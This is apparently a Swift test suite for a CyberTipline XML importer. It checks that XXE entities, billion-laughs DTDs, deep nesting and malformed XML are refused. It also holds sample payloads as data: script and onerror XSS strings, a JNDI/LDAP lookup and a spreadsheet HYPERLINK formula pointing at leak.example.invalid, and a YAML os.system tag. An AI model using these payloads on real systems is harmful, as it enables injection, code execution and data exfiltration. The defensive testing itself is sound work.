import Foundation
import Testing
@testable import ReadinessKit

/// Hostile CyberTipline XML through the importer (`SafeXML`, `CyberTipImporter`): external
/// entities (file, network, parameter), a billion-laughs DTD, deep nesting and malformed XML are
/// refused with located errors in bounded time, nothing of an outside file is ever read, a refused
/// import leaves the bundle exactly as it was, and markup, template, formula and YAML syntax in
/// values arrive in the bundle as exactly that text.
@Suite("Hostile CyberTip XML") struct XMLHostileTests {
    func fixture(_ name: String) -> String { Hostile.fixture("xml/\(name)") }

    /// Parses with the importer's XML reader; returns the diagnostics (empty when it parsed).
    func refusal(_ data: Data, prescan: Bool = true) -> [Diagnostic]? {
        Hostile.bounded("parsing XML") { () -> [Diagnostic] in
            do throws(DiagnosticError) {
                if prescan {
                    _ = try SafeXML.parse(data, file: "report.xml")
                } else {
                    _ = try SafeXML.parseWithoutPrescan(data, file: "report.xml", limits: .standard)
                }
                return []
            } catch {
                return error.diagnostics
            }
        }
    }

    /// A bundle folder to import into, with a case file only.
    func bundle() throws -> String {
        let folder = try Hostile.temporaryFolder("import") + "/bundle"
        try Hostile.write(Hostile.caseHeader, to: folder + "/case.yaml")
        return folder
    }

    @Test("an external file entity is refused at the DOCTYPE, and the file's text never appears, even past the prescan")
    func externalFileEntity() throws {
        let secret = try Hostile.temporaryFolder("xxe") + "/secret.txt"
        try Hostile.write(Hostile.canary, to: secret)
        let xml = try String(contentsOfFile: fixture("xxe-file.xml"), encoding: .utf8).replacingOccurrences(of: "/etc/passwd", with: secret)
        let refused = try #require(refusal(Data(xml.utf8)))
        #expect(refused.map(\.id) == ["import.xml-doctype"])
        #expect(refused.first?.location?.line == 2)
        let unscreened = try #require(refusal(Data(xml.utf8), prescan: false))
        #expect(!unscreened.map(\.description).joined().contains(Hostile.canary))
        let folder = try bundle()
        try Hostile.write(xml, to: folder + "/../report.xml")
        let before = Hostile.listing(folder)
        #expect(throws: DiagnosticError.self) { try CyberTipImporter().importReports([folder + "/../report.xml"], into: folder) }
        #expect(Hostile.listing(folder) == before)
    }

    @Test("external network and parameter entities are refused at the DOCTYPE and never fetched",
          arguments: ["xxe-network.xml", "xxe-parameter.xml"])
    func externalNetworkEntities(_ name: String) throws {
        let data = try Data(contentsOf: URL(fileURLWithPath: fixture(name)))
        #expect(try #require(refusal(data)).map(\.id) == ["import.xml-doctype"])
        // Without the prescan, the parser's own policy holds: an error, no entity resolved.
        let unscreened = try #require(refusal(data, prescan: false))
        #expect(unscreened.allSatisfy { $0.location != nil })
    }

    @Test("a billion-laughs DTD is refused before libxml2 sees it, in bounded time")
    func billionLaughs() throws {
        let data = try Data(contentsOf: URL(fileURLWithPath: fixture("billion-laughs.xml")))
        #expect(try #require(refusal(data)).map(\.id) == ["import.xml-doctype"])
        _ = try #require(refusal(data, prescan: false), "the SAX stage alone also finishes in bounded time")
    }

    @Test("100,000 nested elements are refused at the depth limit, located, without a stack overflow")
    func deepNesting() throws {
        let depth = 100_000
        let xml = "<?xml version=\"1.0\"?>\n<report>" + String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth) + "</report>\n"
        let refused = try #require(refusal(Data(xml.utf8)))
        #expect(refused.map(\.id) == ["import.xml-too-deep"])
        #expect(refused.first?.location?.line == 2)
    }

    @Test("malformed XML is refused with its line, never silently repaired")
    func malformed() throws {
        let refused = try #require(refusal(try Data(contentsOf: URL(fileURLWithPath: fixture("malformed.xml")))))
        #expect(refused.map(\.id) == ["import.xml-malformed"])
        #expect((refused.first?.location?.line ?? 0) >= 2)
    }

    @Test("every refused import leaves the bundle exactly as it was, with no temporary files",
          arguments: ["xxe-file.xml", "xxe-network.xml", "xxe-parameter.xml", "billion-laughs.xml", "malformed.xml"])
    func refusedImportChangesNothing(_ name: String) throws {
        let folder = try bundle()
        let before = Hostile.listing(folder)
        let outcome = Hostile.bounded("importing \(name)") { () -> [Diagnostic] in
            do throws(DiagnosticError) {
                _ = try CyberTipImporter().importReports([fixture(name)], into: folder)
                return []
            } catch {
                return error.diagnostics
            }
        }
        #expect(outcome?.isEmpty == false)
        #expect(outcome?.allSatisfy { $0.severity != .error || $0.location != nil } == true, "errors are located")
        #expect(Hostile.listing(folder) == before)
    }

    @Test("markup, template, formula and YAML syntax in report values arrive in the bundle as exactly that text")
    func hostileValuesRoundTrip() throws {
        let folder = try bundle()
        let report = try CyberTipImporter().importReports([fixture("hostile-values.xml")], into: folder)
        #expect(report.added["cybertips"] == 1)
        let loaded = try #require(Hostile.load(folder))
        let bundle = try #require(loaded.bundle, "\(loaded.problems)")
        let tip = try #require(bundle.records(in: "cybertips").first)
        #expect(tip["provider"] == .string("\"><script>document.title='PWNED'</script>"))
        let files = bundle.records(in: "cybertip_files")
        #expect(files.map(\.id) == ["900000777-f-1", "900000777-null"])
        let texts = bundle.records(in: "cybertips").flatMap { $0.fields.compactMap(\.stringValue) }
            + files.flatMap { $0.fields.compactMap(\.stringValue) }
        for expected in ["{{#case}}{{{caption}}}{{/case}} {case.id} ${jndi:ldap://leak.example.invalid/a}",
                         "- &anchor *alias !!python/object:os.system [x]: {a: b} # not a comment",
                         "true",
                         "line one\nline two: with: colons\n  indented \"quoted\" 'single' \\backslash\n---\n..."] {
            #expect(texts.contains(expected), "missing or altered: \(expected.debugDescription)")
        }
        let notes = try #require(tip["notes"]?.stringValue)
        #expect(notes.contains("<svg onload=alert(1)> @SUM(1+1) | > %YAML"))
        #expect(notes.contains("<img src=x onerror=alert(1)>"))
        #expect(notes.contains("email: =HYPERLINK(\"http://leak.example.invalid/?\"&A1,\"click\")"))
    }

    @Test("'readiness import cybertip' exits 2 on hostile XML with a located error and leaves the bundle unchanged",
          .enabled(if: CLIRunner.isAvailable), arguments: ["xxe-file.xml", "billion-laughs.xml", "malformed.xml"])
    func cliRefusesHostileXML(_ name: String) throws {
        let folder = try bundle()
        let before = Hostile.listing(folder)
        let result = try CLIRunner.run(["import", "cybertip", fixture(name), "--into", folder], in: try Hostile.temporaryFolder("cli"))
        #expect(result.status == 2, "\(result.stderr)")
        #expect(result.stderr.contains(try Regex("\(name):[0-9]+:[0-9]+: error: ")), "\(result.stderr)")
        #expect(Hostile.listing(folder) == before)
    }
}
